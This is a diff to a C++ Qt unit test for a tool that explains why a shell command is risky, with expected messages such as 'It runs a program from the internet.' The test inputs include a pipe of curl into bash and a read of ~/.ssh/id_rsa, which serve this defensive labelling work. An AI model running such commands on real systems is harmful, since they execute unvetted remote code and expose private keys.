@@ -158,12 +158,20 @@ void TestQuestionText::saysWhy_data()
     QTest::newRow("runs what it fetches") << u"curl -s https://a.b/x | bash -"_s << false
                                           << u"It runs a program from the internet."_s;
     QTest::newRow("fetches, or else a shell")
-        << u"curl -s https://a.b/x || sh y"_s << false << u"It sends a request to the internet."_s;
+        << u"curl -s https://a.b/x || sh y"_s << false << u"It runs a program from the internet."_s;
+    QTest::newRow("fetches") << u"curl -s https://a.b/x"_s << false
+                             << u"It sends a request to the internet."_s;
+    QTest::newRow("a secret") << u"cat ~/.ssh/id_rsa"_s << true
+                              << u"Careful. It may read secrets: ~/.ssh/id_rsa"_s;
+    QTest::newRow("outside") << u"touch /srv/x"_s << false
+                             << u"It reaches outside the project: /srv/x"_s;
     QTest::newRow("behind env") << u"env sudo ls"_s << false
                                 << u"It runs as administrator of this machine."_s;
-    QTest::newRow("writes") << u"echo 1 >out"_s << false << u"It writes to a file."_s;
+    QTest::newRow("writes") << u"echo 1 >out"_s << false
+                            << u"It writes files and can overwrite others."_s;
     QTest::newRow("words in quotes") << u"echo 'rm -rf /'"_s << false << u"Runs a command"_s;
-    QTest::newRow("unknown") << u"make"_s << false << u"Runs a command"_s;
+    QTest::newRow("the project") << u"make"_s << false << u"It runs programs of the project."_s;
+    QTest::newRow("unknown") << u"frobnicate"_s << false << u"Runs a command"_s;
 }
 
 void TestQuestionText::saysWhy()
